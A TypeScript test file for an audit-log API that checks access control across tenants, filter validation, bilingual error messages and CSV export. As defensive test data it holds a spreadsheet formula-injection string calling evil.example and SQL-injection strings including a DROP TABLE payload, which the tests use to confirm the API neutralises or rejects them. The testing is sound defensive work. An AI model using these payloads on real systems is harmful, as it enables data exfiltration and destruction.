import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordAudit, renderError, type UserSummary } from '@spejl/core';
import { withTenant } from '@spejl/db';
import { testEngines } from '@spejl/db/testing';
import { member } from './egeskov-round.ts';
import { apiFixture, type ApiFixture } from './fixture.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")';

/** The coded error a refusal carries, rendered in a language. */
function text(error: unknown, language: 'da' | 'en'): string | undefined {
  const coded = (error as { cause?: { coded?: { code: string; params: Record<string, string | number> } } }).cause?.coded;
  return renderError(coded?.code, coded?.params, language);
}

describe.each(testEngines())('the audit log, readable, on $name', (engine) => {
  let f: ApiFixture;
  let tenantId: string;
  let otherTenantId: string;
  const users: Record<string, UserSummary> = {};
  const as = (who: string) => f.as(users[who]!);

  beforeAll(async () => {
    f = await apiFixture(engine);
    const a = await f.tenantWithAdmin('audit-a');
    const b = await f.tenantWithAdmin('audit-b');
    tenantId = a.tenant.id;
    otherTenantId = b.tenant.id;
    users.admin = a.admin;
    users.stranger = b.admin;
    users.analyst = await member(f, tenantId, 'Analyst', 'analyst', null);
    users.leader = await member(f, tenantId, 'Leder', 'leader', null);
    users.operator = f.operator;
    users.otherOperator = await f.user('Operator2', true);
    // Entries: the admin opens leader 1004's report twice, invites someone; the operators act in both tenants.
    const write = (t: string, actor: UserSummary | null, action: string, target: string | null, details = {}) =>
      withTenant(f.db, t, (tx) => recordAudit(tx, { tenantId: t, actorUserId: actor?.id ?? null, action, target, details }));
    await write(tenantId, users.admin, 'report.read', '1004', { reportId: 'leader' });
    await write(tenantId, users.admin, 'report.read', '1005', { reportId: 'leader' });
    await write(tenantId, users.analyst, 'rollup.export', 'r1');
    await write(tenantId, null, 'people.import', HOSTILE, { note: `ok;${HOSTILE}` });
    await write(tenantId, users.operator, 'tenant.update', null);
    await write(otherTenantId, users.operator, 'report.read', '9999');
    await write(otherTenantId, users.otherOperator, 'people.add', 'secret-person');
    await write(otherTenantId, users.stranger, 'report.read', '1004');
  });
  afterAll(() => f?.close());

  it('an admin finds who opened leader 1004\'s report, newest first, with e-mail and role', async () => {
    const page = await as('admin').audit.list({ tenantId, filter: { subject: '1004', action: 'report.read' }, page: 1, pageSize: 10 });
    expect(page.total).toBe(1);
    expect(page.rows[0]).toMatchObject({ actorEmail: users.admin!.email, actorRole: 'admin', action: 'report.read', subject: '1004' });
    const all = await as('admin').audit.list({ tenantId, filter: {}, page: 1, pageSize: 2 });
    expect(all.total).toBeGreaterThanOrEqual(5);
    expect(all.rows).toHaveLength(2);
    expect(all.rows[0]!.at.getTime()).toBeGreaterThanOrEqual(all.rows[1]!.at.getTime());
    const byWho = await as('admin').audit.list({ tenantId, filter: { actorUserId: users.analyst!.id }, page: 1, pageSize: 10 });
    expect(byWho.rows.map((r) => r.action)).toEqual(['rollup.export']);
    const future = await as('admin').audit.list({ tenantId, filter: { from: new Date(Date.now() + 86_400_000) }, page: 1, pageSize: 10 });
    expect(future.total).toBe(0);
  });

  it("lists the tenant's own actors and actions only for the filters", async () => {
    const choices = await as('admin').audit.choices({ tenantId });
    expect(choices.actions).not.toContain('people.add');
    expect(choices.actors.map((a) => a.email)).not.toContain(users.stranger!.email);
  });

  it.each(['analyst', 'leader', 'stranger', 'operator'])('refuses the log and its export to %s', async (who) => {
    await expect(as(who).audit.list({ tenantId, filter: {}, page: 1, pageSize: 10 })).rejects.toMatchObject({ code: expect.stringMatching(/FORBIDDEN|NOT_FOUND/) });
    await expect(as(who).audit.exportCsv({ tenantId, filter: {} })).rejects.toMatchObject({ code: expect.stringMatching(/FORBIDDEN|NOT_FOUND/) });
    await expect(as(who).audit.choices({ tenantId })).rejects.toMatchObject({ code: expect.stringMatching(/FORBIDDEN|NOT_FOUND/) });
  });

  it('shows an operator their own actions across tenants and never another operator\'s', async () => {
    const mine = await as('operator').audit.mine({ filter: {}, page: 1, pageSize: 50 });
    expect(mine.rows.map((r) => [r.action, r.tenantId]).sort()).toEqual([['report.read', otherTenantId], ['tenant.update', tenantId]].sort());
    // A filter naming another actor is not even accepted.
    await expect(as('operator').audit.mine({ filter: { actorUserId: users.otherOperator!.id } as never, page: 1, pageSize: 50 })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    const other = await as('otherOperator').audit.mine({ filter: {}, page: 1, pageSize: 50 });
    expect(other.rows.map((r) => r.subject)).toEqual(['secret-person']);
    await expect(as('admin').audit.mine({ filter: {}, page: 1, pageSize: 50 })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    // The older list of a tenant's log gives an operator their own entries there, too.
    const viaTenant = await as('otherOperator').tenant.audit({ tenantId: otherTenantId, limit: 100 });
    expect(viaTenant.map((r) => r.target)).toEqual(['secret-person']);
    expect((await as('operator').tenant.audit({ tenantId, limit: 100 })).every((r) => r.actorUserId === users.operator!.id)).toBe(true);
  });

  it('takes a crafted filter as a value that matches nothing', async () => {
    for (const filter of [{ subject: "1004' OR '1'='1" }, { actorUserId: "x' OR 1=1 --" }, { subject: '%' }]) {
      expect((await as('admin').audit.list({ tenantId, filter, page: 1, pageSize: 10 })).total).toBe(0);
    }
    await expect(as('admin').audit.list({ tenantId, filter: { action: "report.read'; DROP TABLE audit_log; --" }, page: 1, pageSize: 10 })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  });

  it.each([
    ['a huge page size', { filter: {}, page: 1, pageSize: 100_000 }],
    ['page zero', { filter: {}, page: 0, pageSize: 10 }],
    ['a date that is none', { filter: { from: 'not a date' }, page: 1, pageSize: 10 }],
    ['an unknown filter', { filter: { tenantId: 'x' }, page: 1, pageSize: 10 }],
  ])('refuses %s as bad input', async (_what, input) => {
    await expect(as('admin').audit.list({ tenantId, ...input } as never)).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  });

  it('refuses a period that ends before it starts, coded in Danish and English', async () => {
    const error = await as('admin').audit.list({ tenantId, filter: { from: new Date('2026-05-02'), to: new Date('2026-05-01') }, page: 1, pageSize: 10 }).catch((e: unknown) => e);
    expect(text(error, 'da')).toBe('Perioden slutter (2026-05-01), før den begynder (2026-05-02).');
    expect(text(error, 'en')).toBe('the period ends (2026-05-01) before it starts (2026-05-02)');
  });

  it('exports CSV that keeps a hostile value text, and records the export', async () => {
    const { total } = await as('admin').audit.list({ tenantId, filter: {}, page: 1, pageSize: 1 });
    const { csv, fileName } = await as('admin').audit.exportCsv({ tenantId, filter: {} });
    expect(csv.trim().split('\r\n')).toHaveLength(total + 1);
    expect(fileName).toMatch(/^revisionslog-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('"at";"actor_email";"actor_role";"action";"subject";"details"');
    const hostile = lines.find((l) => l.includes('"people.import"'))!;
    expect(hostile).toContain(`"'${HOSTILE.replaceAll('"', '""')}"`);
    // A reader splitting the whole file at `,` meets no cell that starts with a formula character.
    for (const line of csv.split('\r\n')) for (const cell of line.split(/[,;]/)) expect(cell.replace(/^"+/, '')).not.toMatch(/^[=+@]/);
    const after = await as('admin').audit.list({ tenantId, filter: { action: 'audit.export' }, page: 1, pageSize: 10 });
    expect(after.rows[0]).toMatchObject({ actorEmail: users.admin!.email, details: { rows: total } });
  });
});
